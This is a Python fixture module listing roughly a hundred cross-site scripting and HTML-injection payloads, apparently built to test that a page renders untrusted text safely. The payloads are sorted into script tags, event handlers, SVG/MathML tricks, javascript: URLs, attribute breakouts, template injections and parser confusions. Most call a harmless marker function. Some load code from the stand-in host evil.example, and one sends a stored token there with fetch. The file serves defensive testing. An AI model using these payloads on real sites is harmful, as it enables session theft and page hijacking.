"""A hundred texts that would do something in a page that took them for anything but text.

Each calls `ran`, opens a dialog, loads something of `evil.example`, or changes the page, in one parser or another. They
are our own, sorted by the mistake that would let them work. What must not live here: who shows them (`hostile.js`).
"""

from __future__ import annotations

from typing import Final

SCRIPTS: Final = (
    "<script>ran(1)</script>",
    "<SCRIPT>ran(1)</SCRIPT>",
    "<script src=https://evil.example/a.js></script>",
    "<script src=//evil.example/a.js></script>",
    '<script type="module">import "https://evil.example/b.js"; ran(1)</script>',
    "<scr<script>ipt>ran(1)</scr</script>ipt>",
    "<script/ran>ran(1)</script>",
    "<script\n>ran(1)</script\n>",
    "</script><script>ran(1)</script>",
    "<script>ran`1`</script>",
    "<script>\\u0072an(1)</script>",
    "<script>alert(document.domain)</script>",
    "<script>confirm('again?')</script><noscript>no</noscript>",
    "<script nonce=''>fetch('https://evil.example/' + localStorage['email-assistant-token'])</script>",
)
HANDLERS: Final = (
    "<img src=x onerror=ran(1)>",
    '<img src="x" onerror="ran(1)" alt="a picture">',
    "<IMG SRC=x ONERROR=ran(1)>",
    "<img/src=x/onerror=ran(1)>",
    "<img src=x onerror\n=\nran(1)>",
    "<body onload=ran(1)>",
    "<input autofocus onfocus=ran(1)>",
    "<select autofocus onfocus=ran(1)><option>one</option></select>",
    "<details open ontoggle=ran(1)><summary>more</summary></details>",
    "<video autoplay onloadstart=ran(1) src=x></video>",
    "<audio src=x onerror=ran(1)></audio>",
    "<video><source onerror=ran(1) src=x></video>",
    "<p tabindex=1 onfocus=ran(1) id=here>here</p>",
    "<div style=animation-name:spin onanimationstart=ran(1)>turn</div>",
    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=ran(1)>y</div>",
    "<div onpointerover=ran(1) style=position:fixed;inset:0>over everything</div>",
)
DRAWINGS: Final = (
    "<svg onload=ran(1)></svg>",
    "<svg/onload=ran(1)>",
    "<svg><script>ran(1)</script></svg>",
    "<svg><script href=https://evil.example/c.js /></svg>",
    '<svg><a xlink:href="javascript:ran(1)"><text y=20>press</text></a></svg>',
    "<svg><animate onbegin=ran(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:ran(1) begin=0s></svg>",
    "<svg><image href=https://evil.example/d.png onerror=ran(1) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=ran(1)></svg>#x' /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran(1)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><img src=x onerror=ran(1)></mtext></math>",
    '<math href="javascript:ran(1)">press</math>',
)
ADDRESSES: Final = (
    "javascript:ran(1)",
    "JaVaScRiPt:ran(1)",
    "java\tscript:ran(1)",
    "javascript://example.com/%0aran(1)",
    '<a href="javascript:ran(1)">press</a>',
    '<a href="&#106;avascript:ran(1)">press</a>',
    '<a href="data:text/html,<script>ran(1)</script>" target=_blank>press</a>',
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    '<iframe src="javascript:parent.ran(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.ran(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:ran(1)"></object>',
    "<embed src=https://evil.example/e.swf>",
    '<form action="javascript:ran(1)"><button>send</button></form>',
    '<button form=form formaction="javascript:ran(1)">send</button>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=javascript:ran(1)">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/f">',
    "<link rel=stylesheet href=https://evil.example/g.css>",
    "<link rel=prefetch href=https://evil.example/h>",
)
BREAKOUTS: Final = (
    '" onfocus="ran(1)" autofocus="',
    "' onfocus='ran(1)' autofocus='",
    "x onfocus=ran(1) autofocus",
    '"><img src=x onerror=ran(1)>',
    "'><svg onload=ran(1)>",
    "</textarea><script>ran(1)</script>",
    "</title><script>ran(1)</script>",
    "</option></select><img src=x onerror=ran(1)>",
    "</label><label for=token onclick=ran(1)>Token</label>",
    "</p></div></main><main id=main>another page</main>",
    "--><script>ran(1)</script><!--",
    "<!--><img src=x onerror=ran(1)>-->",
    "<![CDATA[><script>ran(1)</script>]]>",
    "';ran(1);//",
    '");ran(1);("',
    "\\');ran(1);//",
)
TEMPLATES: Final = (
    "{{constructor.constructor('ran(1)')()}}",
    "${ran(1)}",
    "<%= ran(1) %>",
    "#{ran(1)}",
    "{%raw%}<script>ran(1)</script>{%endraw%}",
    "[press](javascript:ran(1))",
    "![a picture](https://evil.example/i.png)",
    "<style>@import 'https://evil.example/j.css';</style>",
    "<style>body{background:url(https://evil.example/k.png)}*{display:none}</style>",
    "</style><p style=\"background:url('https://evil.example/l.png')\">seen</p>",
)
PARSERS: Final = (
    "<noscript><p title='</noscript><img src=x onerror=ran(1)>'></noscript>",
    "<template><img src=x onerror=ran(1)></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran(1)>",
    "<svg></p><style><a id='</style><img src=x onerror=ran(1)>'>",
    "<img src=x \x00onerror=ran(1)>",
    "<scr\x00ipt>ran(1)</scr\x00ipt>",
    "&lt;script&gt;ran(1)&lt;/script&gt;",
    "&#x3c;img src=x onerror=ran(1)&#x3e;",
    "%3Cscript%3Eran(1)%3C/script%3E",
    "\\x3cscript\\x3eran(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1eran(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-ran(1)+ADw-/script+AD4-",
    "<\u200bscript>ran(1)</script>\u202e<script>\u2028ran(1)\u2029</script>",
)

TEXTS: Final = (*SCRIPTS, *HANDLERS, *DRAWINGS, *ADDRESSES, *BREAKOUTS, *TEMPLATES, *PARSERS)
